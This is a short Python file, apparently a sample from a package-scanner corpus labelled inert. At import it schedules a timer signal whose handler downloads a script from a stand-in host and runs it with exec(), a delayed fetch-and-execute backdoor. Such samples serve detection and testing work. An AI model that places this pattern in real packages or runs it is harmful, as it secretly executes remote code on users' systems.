# pkgguard corpus 574 (import-time), modelled on [empirical]; inert, never run.
import signal
import urllib.request


def _refresh(signum, frame):
    exec(urllib.request.urlopen("https://plugin-index.example/r.py", timeout=5).read())


if hasattr(signal, "SIGALRM"):
    signal.signal(signal.SIGALRM, _refresh)
    signal.alarm(45)
